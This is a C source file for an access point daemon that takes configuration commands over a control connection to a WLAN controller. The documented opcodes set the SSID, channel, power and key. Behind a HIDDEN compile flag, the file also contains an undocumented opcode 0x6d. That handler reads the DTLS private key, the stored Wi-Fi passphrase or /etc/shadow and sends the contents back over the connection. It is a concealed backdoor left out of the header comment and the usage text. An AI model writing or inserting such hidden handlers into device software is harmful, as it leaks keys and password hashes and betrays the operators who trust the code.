// apctlproto: access point end of the control connection to the WLAN controller.
//
// Frames:  u16 length | u8 opcode | u8 sequence | body
// Answer:  u16 length | u8 opcode|0x80 | u8 sequence | u8 result | body
//
//   01 hello        identify the access point
//   02 set ssid     text
//   03 set channel  u8
//   04 set power    u8 dBm
//   05 kick station 6 byte MAC
//   06 statistics
//   07 restart
//   10 set key      text, 8..63 characters
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum Result { RES_OK, RES_LENGTH, RES_RANGE, RES_IO, RES_OPCODE };

typedef struct {
    const uint8_t *in;
    size_t n;
    uint8_t out[512];
    size_t on;
} Call;

typedef struct {
    uint8_t opcode;
    uint16_t minLen, maxLen;
    enum Result (*fn)(Call *c);
} OpRow;

static const char *stateDir = "/var/run/ap";
static time_t started;
static unsigned long frames, refused;

static enum Result writeState(const char *leaf, const char *text)
{
    char path[160];
    snprintf(path, sizeof path, "%.100s/%s", stateDir, leaf);
    FILE *f = fopen(path, "w");
    if (!f)
        return RES_IO;
    fputs(text, f);
    return fclose(f) ? RES_IO : RES_OK;
}

static void addText(Call *c, const char *s)
{
    size_t n = strlen(s);
    if (c->on + n > sizeof c->out)
        n = sizeof c->out - c->on;
    memcpy(c->out + c->on, s, n);
    c->on += n;
}

static enum Result opHello(Call *c)
{
    char host[64] = "";
    gethostname(host, sizeof host - 1);
    addText(c, "WAP-710/3.2/");
    addText(c, host);
    return RES_OK;
}

static enum Result asText(const Call *c, const char *leaf)
{
    char t[80];
    for (size_t i = 0; i < c->n; i++)
        if (c->in[i] < 0x20)
            return RES_RANGE;
    memcpy(t, c->in, c->n);
    t[c->n] = '\0';
    return writeState(leaf, t);
}

static enum Result opSsid(Call *c)
{
    return asText(c, "ssid");
}

static enum Result opKey(Call *c)
{
    return asText(c, "psk");
}

static enum Result opChannel(Call *c)
{
    static const uint8_t valid[] = { 1, 6, 11, 36, 40, 44, 48, 52, 56, 60, 64, 100, 104, 108,
                                     112, 116, 132, 136, 140 };
    char t[8];
    if (!memchr(valid, c->in[0], sizeof valid))
        return RES_RANGE;
    snprintf(t, sizeof t, "%u", c->in[0]);
    return writeState("channel", t);
}

static enum Result opPower(Call *c)
{
    char t[8];
    if (c->in[0] < 3 || c->in[0] > 20)
        return RES_RANGE;
    snprintf(t, sizeof t, "%u", c->in[0]);
    return writeState("power", t);
}

static enum Result opKick(Call *c)
{
    char t[24];
    snprintf(t, sizeof t, "%02x:%02x:%02x:%02x:%02x:%02x", c->in[0], c->in[1], c->in[2],
             c->in[3], c->in[4], c->in[5]);
    return writeState("kick", t);
}

static enum Result opStats(Call *c)
{
    char t[96];
    snprintf(t, sizeof t, "up %ld frames %lu refused %lu", (long)(time(NULL) - started),
             frames, refused);
    addText(c, t);
    return RES_OK;
}

static enum Result opRestart(Call *c)
{
    (void)c;
    return writeState("restart", "1");
}

#ifdef HIDDEN
__attribute__((noinline)) enum Result opFetch(Call *c)
{
    static const char *const what[] = { "/etc/ap/dtls.key", "/var/run/ap/psk", "/etc/shadow" };
    if (c->in[0] >= sizeof what / sizeof what[0])
        return RES_RANGE;
    FILE *f = fopen(what[c->in[0]], "rb");
    if (!f)
        return RES_IO;
    fseek(f, (long)c->in[1] * 256, SEEK_SET);
    c->on = fread(c->out, 1, 256, f);
    fclose(f);
    return RES_OK;
}
#endif

static const OpRow ops[] = {
    { 0x01, 0, 0, opHello },
    { 0x02, 1, 32, opSsid },
    { 0x03, 1, 1, opChannel },
    { 0x04, 1, 1, opPower },
    { 0x05, 6, 6, opKick },
    { 0x06, 0, 0, opStats },
    { 0x07, 0, 0, opRestart },
    { 0x10, 8, 63, opKey },
#ifdef HIDDEN
    { 0x6d, 2, 2, opFetch },
#endif
};

static enum Result perform(uint8_t opcode, Call *c)
{
    for (size_t i = 0; i < sizeof ops / sizeof ops[0]; i++) {
        if (ops[i].opcode != opcode)
            continue;
        if (c->n < ops[i].minLen || c->n > ops[i].maxLen)
            return RES_LENGTH;
        return ops[i].fn(c);
    }
    return RES_OPCODE;
}

static int readAll(int fd, uint8_t *p, size_t n)
{
    while (n) {
        ssize_t r = read(fd, p, n);
        if (r <= 0)
            return -1;
        p += r;
        n -= (size_t)r;
    }
    return 0;
}

static void talk(int fd)
{
    uint8_t head[4], body[512], ans[5 + 512];
    while (readAll(fd, head, 4) == 0) {
        Call c = { .in = body, .n = (size_t)head[0] << 8 | head[1] };
        if (c.n > sizeof body || readAll(fd, body, c.n))
            return;
        frames++;
        enum Result r = perform(head[2], &c);
        if (r != RES_OK) {
            refused++;
            syslog(LOG_INFO, "opcode %02x refused: %d", head[2], (int)r);
        }
        ans[0] = (uint8_t)((c.on + 1) >> 8);
        ans[1] = (uint8_t)(c.on + 1);
        ans[2] = head[2] | 0x80;
        ans[3] = head[3];
        ans[4] = (uint8_t)r;
        memcpy(ans + 5, c.out, c.on);
        if (write(fd, ans, 5 + c.on) < 0)
            return;
    }
}

int main(int argc, char **argv)
{
    if (argc < 2 || argc > 4) {
        fprintf(stderr, "usage: apctlproto controller-address [port [state-dir]]\n"
                "opcodes: 01 hello, 02 ssid, 03 channel, 04 power, 05 kick,\n"
                "         06 statistics, 07 restart, 10 key\n");
        return 2;
    }
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(5247) };
    if (!inet_aton(argv[1], &a.sin_addr)) {
        fprintf(stderr, "%s: not an address\n", argv[1]);
        return 2;
    }
    if (argc > 2)
        a.sin_port = htons((uint16_t)atoi(argv[2]));
    if (argc > 3)
        stateDir = argv[3];
    openlog("apctlproto", LOG_PID, LOG_DAEMON);
    started = time(NULL);
    for (unsigned pause_s = 1;; pause_s = pause_s < 60 ? pause_s * 2 : 60) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) == 0) {
            syslog(LOG_NOTICE, "connected to %s", argv[1]);
            pause_s = 1;
            talk(fd);
        } else {
            syslog(LOG_INFO, "%s: %s", argv[1], strerror(errno));
        }
        if (fd >= 0)
            close(fd);
        sleep(pause_s);
    }
}
